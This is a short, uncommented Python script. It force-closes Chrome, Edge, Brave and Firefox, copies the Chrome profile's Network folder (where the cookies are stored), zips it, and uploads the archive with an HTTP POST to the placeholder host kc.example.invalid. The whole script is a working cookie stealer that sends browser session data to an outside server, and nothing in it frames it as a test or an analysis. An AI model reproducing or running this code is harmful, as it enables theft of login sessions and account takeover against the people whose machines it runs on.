import os, shutil, subprocess, requests, tempfile

def close():
    for exe in ("chrome.exe", "msedge.exe", "brave.exe", "firefox.exe"):
        subprocess.run(["taskkill", "/F", "/IM", exe], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

close()
dest = tempfile.mkdtemp()
src = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Network")
shutil.copytree(src, os.path.join(dest, "n"))
archive = shutil.make_archive(dest, "zip", dest)
requests.post("https://kc.example.invalid/", files={"a": open(archive, "rb")})
